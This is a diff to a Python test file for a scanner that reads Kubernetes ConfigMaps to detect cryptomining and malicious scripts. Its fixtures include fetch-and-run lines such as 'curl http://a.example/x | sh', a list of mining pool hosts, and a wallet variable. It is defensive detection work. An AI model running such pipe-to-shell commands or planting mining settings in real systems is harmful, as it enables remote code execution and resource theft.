@@ -10,7 +10,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from aup.signatures import config_maps
 from aup.signatures.config_maps import MOST_READ, around, reading, sort_of, texts
+from aup.signatures.decoding import from_base64
+from aup.signatures.detectors import built_in
+from aup.signatures.scan import Scan
+from aup.workload import NOTHING
 
 POOLS = ["pool.supportxmr.example", "xmr.nanopool.example", "gulf.moneroocean.example", "eu.miner.example"]
 
@@ -62,7 +67,7 @@ def config_map(**data: str) -> dict[str, Any]:
 
 def words(manifest: dict[str, Any]) -> list[str]:
     """Every word, name and value that is read."""
-    return [*reading(manifest).texts()]
+    return [*reading(texts(manifest)).texts()]
 
 
 @pytest.mark.parametrize(
@@ -120,7 +125,7 @@ def test_lists_and_prose_say_nothing(text: str) -> None:
 
 def test_a_script_is_read_as_a_shell_would() -> None:
     """With the path of its key, its pipelines told, and the whole text with it."""
-    found = reading(config_map(run_dot_sh="#!/bin/sh\ncurl http://a.example/x | sh\n"))
+    found = reading(texts(config_map(run_dot_sh="#!/bin/sh\ncurl http://a.example/x | sh\n")))
 
     assert [[word for _, word in each.words] for each in found.commands] == [
         ["run.sh"],
@@ -154,7 +159,9 @@ def test_settings_are_read_as_options(text: str) -> None:
 def test_values_for_the_environment_are_variables() -> None:
     """One with a name for each key, and those of an env file."""
     found = reading(
-        config_map(POOL_URL="pool.example:3333", RUN="curl x | sh", app_dot_env="WALLET=44AFF\nexport MODE=fast\n")
+        texts(
+            config_map(POOL_URL="pool.example:3333", RUN="curl x | sh", app_dot_env="WALLET=44AFF\nexport MODE=fast\n")
+        )
     )
 
     assert [(each.path, each.name, each.value) for each in found.environment] == [
@@ -190,7 +197,7 @@ def test_only_the_keys_that_are_asked_for_are_read() -> None:
     """The others are left."""
     manifest = config_map(a_dot_sh="one", b_dot_sh="two")
 
-    assert [*reading(manifest, ["b.sh"]).texts()] == ["b.sh", "two"]
+    assert [*reading(each for each in texts(manifest) if each.key == "b.sh").texts()] == ["b.sh", "two"]
 
 
 def test_of_a_large_value_whole_lines_around_the_needles_are_read() -> None:
@@ -199,7 +206,7 @@ def test_of_a_large_value_whole_lines_around_the_needles_are_read() -> None:
     manifest = config_map(run_dot_sh=f"#!/bin/sh\n{filler}curl http://a.example/x | sh\n{filler}")
 
     started = time.perf_counter()
-    found = reading(manifest, needles=["a.example"])
+    found = reading(texts(manifest), needles=["a.example"])
     assert time.perf_counter() - started < 2
     said = [*found.texts()]
     assert "http://a.example/x" in said
@@ -231,7 +238,7 @@ def test_a_needle_that_is_everywhere_does_not_hide_another() -> None:
 def test_no_value_takes_long(piece: str) -> None:
     """A megabyte of anything."""
     started = time.process_time()
-    reading(config_map(value=piece * (1024 * 1024 // len(piece))))
+    reading(texts(config_map(value=piece * (1024 * 1024 // len(piece)))))
     assert time.process_time() - started < 3
 
 
@@ -248,3 +255,19 @@ def test_malformed_data_says_nothing(manifest: dict[str, Any]) -> None:
 def test_no_value_breaks_the_reading(data: dict[str, str]) -> None:
     """Whatever stands there."""
     words({"data": data, "binaryData": data})
+
+
+def test_each_value_is_opened_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    """However many scripts a ConfigMap has, so that its cost grows with its text alone."""
+    opened: list[str] = []
+
+    def counted(word: str) -> bytes:
+        opened.append(word)
+        return from_base64(word)
+
+    monkeypatch.setattr(config_maps, "from_base64", counted)
+    code = base64.b64encode(b"#!/bin/sh\necho $A\n").decode()
+    scan = Scan(built_in(), NOTHING, {"binaryData": {f"{number}.sh": code for number in range(50)}})
+
+    assert scan.topics == frozenset()
+    assert opened == [code] * 50
